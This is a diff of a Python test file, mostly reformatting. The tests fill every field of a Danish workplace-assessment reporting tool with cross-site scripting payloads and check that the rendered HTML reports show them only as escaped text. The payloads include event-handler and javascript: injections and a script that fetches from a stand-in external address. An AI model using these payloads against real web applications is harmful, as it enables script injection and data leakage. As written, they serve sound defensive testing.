@@ -6,6 +6,7 @@ field that was not escaped. The pages are opened twice: once with their Content-
 bypassed, so a missed escape shows as script that runs (the CSP must not hide it), and once with it
 in force, to see that the reports still load everything they need under it.
 """
+
 import csv
 import io
 from datetime import date
@@ -29,9 +30,11 @@ def payload(field: str) -> str:
     in element content, in a single- or double-quoted attribute, in <title>/<style>, as a URL."""
     FIELDS.append(field)
     n = len(FIELDS) - 1
-    return (f"[{n}]<img src=x onerror=alert({n})><script>alert({n});fetch('http://203.0.113.9/{n}')</script>"
-            f"<svg onload=alert({n})>\"' tabindex=1 autofocus onfocus=alert({n}) onload=alert({n}) x='\" "
-            f"onfocus=alert({n}) x=\"</title></style><iframe src=javascript:alert({n})></iframe>javascript:alert({n})")
+    return (
+        f"[{n}]<img src=x onerror=alert({n})><script>alert({n});fetch('http://203.0.113.9/{n}')</script>"
+        f"<svg onload=alert({n})>\"' tabindex=1 autofocus onfocus=alert({n}) onload=alert({n}) x='\" "
+        f'onfocus=alert({n}) x="</title></style><iframe src=javascript:alert({n})></iframe>javascript:alert({n})'
+    )
 
 
 def poison(folder):
@@ -47,7 +50,9 @@ def poison(folder):
         group["name"] = payload(f"amo_groups.{group['id']}.name")
     path.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
 
-    for path in sorted((folder / "apv").glob("*.csv")):  # every round names units; code them by id so the APV still reads
+    for path in sorted(
+        (folder / "apv").glob("*.csv")
+    ):  # every round names units; code them by id so the APV still reads
         text = path.read_text(encoding="utf-8-sig")
         for name, unit_id in ids.items():
             text = text.replace(f";{name};", f";{unit_id};")
@@ -93,13 +98,35 @@ def answer_everything(book: Workbook) -> None:
         for unit in UNITS:
             for n, q in enumerate(action_questions):  # listed under their form, late, follow-up due
                 level, phase = g.iglo_levels[n % len(g.iglo_levels)].id, g.iglo_phases[n % len(g.iglo_phases)].id
-                actions.save(store, actions.Action(
-                    unit, payload(f"{unit}:{q.id}.measure"), responsible=payload(f"{unit}:{q.id}.responsible"),
-                    deadline="2020-01-01", followup="2020-01-02", recommendation=q.id.split(".")[0],
-                    question=q.id, level=level, phase=phase, problem=payload(f"{unit}:{q.id}.problem")),
-                    who=payload(f"{unit}:{q.id}.who"))
-            fields = ("measure", "responsible", "recommendation", "question", "level", "phase", "problem",
-                      "priority", "status", "deadline", "followup")  # every free field, ids and dates too
+                actions.save(
+                    store,
+                    actions.Action(
+                        unit,
+                        payload(f"{unit}:{q.id}.measure"),
+                        responsible=payload(f"{unit}:{q.id}.responsible"),
+                        deadline="2020-01-01",
+                        followup="2020-01-02",
+                        recommendation=q.id.split(".")[0],
+                        question=q.id,
+                        level=level,
+                        phase=phase,
+                        problem=payload(f"{unit}:{q.id}.problem"),
+                    ),
+                    who=payload(f"{unit}:{q.id}.who"),
+                )
+            fields = (
+                "measure",
+                "responsible",
+                "recommendation",
+                "question",
+                "level",
+                "phase",
+                "problem",
+                "priority",
+                "status",
+                "deadline",
+                "followup",
+            )  # every free field, ids and dates too
             actions.save(store, actions.Action(unit, **{f: payload(f"{unit}:action.{f}") for f in fields}))
 
 
@@ -169,7 +196,9 @@ def visit(browser, files, enforce: bool) -> tuple[list[str], set[str]]:
     if dialogs:
         problems.append(f"dialoger ({mode}) fra felterne {fields_of(dialogs)}")
     if requests:
-        problems.append(f"forespørgsler ({mode}): {requests[:5]} fra felterne {fields_of(u.rsplit('/', 1)[-1] for u in requests)}")
+        problems.append(
+            f"forespørgsler ({mode}): {requests[:5]} fra felterne {fields_of(u.rsplit('/', 1)[-1] for u in requests)}"
+        )
     if violations:
         problems.append(f"CSP-brud ({mode}): {violations[:3]}")
     return problems, seen
@@ -188,9 +217,19 @@ def test_a_payload_in_every_field_stays_text_in_every_report(poisoned, browser):
 
     # The payloads were rendered, as text, for the fields a reader sees.
     shown = {FIELDS[int(n)] for n in seen}
-    expected = ["institution.name", "units.hum.name", "units.adm_oekonomi.name", "amo_groups.amg_undervisning.name",
-                "amo_groups.amg_adm_service.name", "hum:action.measure", "hum:action.responsible", "hum:action.status",
-                "hum:action.problem", "hum:action.priority", "fjordby:action.measure"]
+    expected = [
+        "institution.name",
+        "units.hum.name",
+        "units.adm_oekonomi.name",
+        "amo_groups.amg_undervisning.name",
+        "amo_groups.amg_adm_service.name",
+        "hum:action.measure",
+        "hum:action.responsible",
+        "hum:action.status",
+        "hum:action.problem",
+        "hum:action.priority",
+        "fjordby:action.measure",
+    ]
     assert [f for f in expected if f not in shown] == []
     questions = guide.default().questions.values()
     kinds = {q.kind for q in questions if any(f"{u}:{q.id}" in shown for u in UNITS)}
@@ -204,8 +243,10 @@ def test_an_imported_action_status_is_text_in_the_iglo_grid_and_plan():
     g = guide.default()
     evil = "<img src=x onerror=alert(1)>' onmouseover='alert(2)"
     item = actions.Action("hum", "Tiltag", status=evil, priority=evil, level=evil, phase=evil, deadline="2020-01-01")
-    for html in (actions.iglo_html([item], g, date(2026, 11, 27), {"hum": evil, "nat": "Nat"}),
-                 actions.plan_html([item], g, {"hum": evil}, date(2026, 11, 27))):
+    for html in (
+        actions.iglo_html([item], g, date(2026, 11, 27), {"hum": evil, "nat": "Nat"}),
+        actions.plan_html([item], g, {"hum": evil}, date(2026, 11, 27)),
+    ):
         assert "<img" not in html and "onmouseover='" not in html
         assert "&lt;img src=x onerror=alert(1)&gt;&#39; onmouseover=&#39;alert(2)" in html
     assert "class='sk-action sk-ukendt'" in actions.iglo_html([item], g, date(2026, 11, 27))
